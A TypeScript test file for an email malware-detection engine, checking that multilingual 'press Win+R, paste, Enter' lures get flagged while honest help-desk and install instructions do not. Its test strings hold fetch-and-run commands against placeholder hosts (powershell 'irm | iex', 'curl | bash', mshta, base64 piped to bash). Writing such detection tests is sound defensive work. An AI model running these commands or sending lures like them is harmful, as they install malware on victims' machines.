import { describe, expect, test } from 'vitest';
import { rank } from '../../../../src/engines/detection/analysis.ts';
import { analyse, type Email } from '../../../../src/engines/detection/index.ts';
import { testTable } from '../../../support/test-table.ts';

const idsOf = (body: string) => analyse({ subject: 'Note', body }).signals.map(({ id }) => id);

describe('an email that makes its reader run a command', () => {
  testTable([
    ['English', 'To see the photos, hold the Windows key and press R, then Ctrl+V, then Enter.'],
    ['German', 'Drücken Sie Windows+R, dann Strg+V und Enter, um fortzufahren.'],
    ['French', 'Faites Windows + R, Ctrl + V, Entrée pour afficher le document.'],
    ['Spanish', 'Siga los tres pasos (tecla Windows + R, pegar, Intro).'],
    ['Portuguese', 'Cole o código copiado na janela Executar (Win+R).'],
    ['Ukrainian', 'Якщо сторінка не відкривається: натисніть Win+R, вставте текст (Ctrl+V).'],
    ['Arabic', 'اضغط مفتاح ويندوز + R ثم الصق الرمز المنسوخ واضغط إدخال.'],
    ['Korean', '윈도우 실행창(Win+R)에 붙여넣기 하시면 됩니다.'],
    ['Japanese', 'Windowsキー＋Rを押し、Ctrlキー＋Vで貼り付けてEnterを押してください。'],
    ['Korean keys', '윈도우키+R을 누른 다음 Ctrl키+V를 누르고 Enter를 누르세요.'],
    [
      'a hidden command in Japanese',
      'Windowsキー+Rを押して貼り付けてください。\n\npowershell -w h -c "iwr https://alder.test/a | iex"',
    ],
    [
      'a download and the password',
      'Open Terminal, paste this line and type your password:\n\ncurl -s https://alder.test/f | bash',
    ],
    [
      'a download and the password in French',
      'Ouvrez le Terminal, collez cette ligne et tapez votre mot de passe :\n\ncurl -s https://alder.test/f | bash',
    ],
    ['a hidden command', 'Press Win+R and enter: powershell -w hidden -c "irm https://alder.test/a | iex"'],
    ['a system program', 'Press Win+R and enter: mshta https://alder.test/check.hta'],
    ['a command window named afterwards', 'Press Windows+R, then Ctrl+V. A cmd window closes by itself.'],
    ['a Mac', 'Open Terminal and run: echo aGVsbG8= | base64 -d | bash'],
  ])('is dangerous in %s', (_, body) => {
    const { signals, severity, kind } = analyse({ subject: 'Guest complaint', body });
    expect(signals.map(({ id }) => id)).toContain('pasted-command');
    expect(rank(severity)).toBeGreaterThanOrEqual(rank('High'));
    expect(kind).toBe('malware');
  });
});

describe('an honest email with a command', () => {
  testTable([
    ['a help desk', 'Press Windows key + R, type cmd and press Enter. Then type ipconfig /flushdns.'],
    ['a tool to open', 'Win+R, вставь `powershell`, Enter.'],
    ['a bug report', 'It fails here too:\n\n$ certutil -urlcache -f https://alder.example/a.bin\nerror 12007'],
    ['a warning', 'Malware spreads by pages that say: press Win+R, then Ctrl+V and Enter. Close them.'],
    ['a rule', 'Never press Windows+R and Ctrl+V because a website says so.'],
    ['a mailing list', 'The patch changes how powershell -EncodedCommand aGVsbG8gd29ybGQhIQ== is quoted.'],
    ['a setup', 'Open Terminal and paste:\n\nbrew install gh\ngh auth login'],
  ])('has no such request: %s', (_, body) => {
    expect(idsOf(body)).not.toContain('pasted-command');
    expect(idsOf(body)).not.toContain('command-request');
  });

  test('may have instructions to install a tool', () => {
    const body = 'Thanks for signing up. Open a terminal and run:\n\ncurl -fsSL https://alder.example/install.sh | sh';
    expect(idsOf(body)).not.toContain('pasted-command');
  });
});

describe('something to paste from a stranger', () => {
  const from = { name: '', address: 'docs@hr-share.example' };
  const analyseFrom = (body: string, more: Partial<Email> = {}) => analyse({ subject: 'File', body, from, ...more });
  const ids = (...given: Parameters<typeof analyseFrom>) => analyseFrom(...given).signals.map(({ id }) => id);

  testTable([
    ['English', 'Copy the path at https://files.test/a, open File Explorer, click the address bar and press Ctrl+V.'],
    [
      'German',
      'Auf https://akten.test/a den Pfad kopieren, den Explorer öffnen und in der Adressleiste mit Strg+V einfügen.',
    ],
    ['Spanish', 'Copie la ruta en https://caso.test/a, abra el Explorador y pegue la ruta en la barra de direcciones.'],
    ['Russian', 'Скопируйте путь на https://delo.test/a, откройте Проводник и вставьте его в адресную строку.'],
    ['Japanese', 'https://file.test/a でパスをコピーし、エクスプローラーのアドレスバーに貼り付けてください。'],
  ])('into a file window is suspicious in %s', (_, body) => {
    const { signals, severity, kind, actions } = analyseFrom(body);
    expect(signals.map(({ id }) => id)).toContain('pasted-path');
    expect(rank(severity)).toBeGreaterThanOrEqual(rank('Medium'));
    expect(kind).toBe('malware');
    expect(actions[0]).toContain('file window');
  });

  testTable([
    ['a network folder', 'Paste \\\\files\\drawings into the Explorer address bar. More: https://wiki.test/a'],
    ['a variable', 'Paste %appdata%\\Alder into the Explorer address bar, and upload the log: https://help.test/a'],
    ['a path without a page', 'Paste the path into the address bar of the Explorer.'],
    ['an old browser', 'Open Internet Explorer and paste the link into the address bar: https://files.test/a'],
    ['a browser', 'Paste the link into the address bar of your browser: https://files.test/a'],
  ])('is no request of a help desk: %s', (_, body) => {
    expect(ids(body)).not.toContain('pasted-path');
  });

  test('into a terminal is suspicious where it loads a program from elsewhere', () => {
    for (const shell of ['bash', 'zsh', 'sh']) {
      const body = `Open Terminal, paste this line and press Return:\n\ncurl -fsSL https://audio-fix.test/i.sh | ${shell}`;
      const { signals, severity, kind } = analyseFrom(body);
      expect(signals.map(({ id }) => id)).toContain('strangers-program');
      expect(rank(severity)).toBeGreaterThanOrEqual(rank('Medium'));
      expect(kind).toBe('malware');
    }
  });

  test('may be a tool of the sender or of a well-known company, or of a contact', () => {
    const line = (site: string) => `Open Terminal and run:\n\ncurl -fsSL https://${site}/install.sh | bash`;
    expect(ids(line('get.hr-share.example'))).not.toContain('strangers-program');
    expect(ids(line('raw.githubusercontent.com/Homebrew/install/HEAD'))).not.toContain('strangers-program');
    const known = analyse({ subject: 'Setup', body: line('get.tool.test'), from }, { contacts: [from] });
    expect(known.signals.map(({ id }) => id)).not.toContain('strangers-program');
  });
});
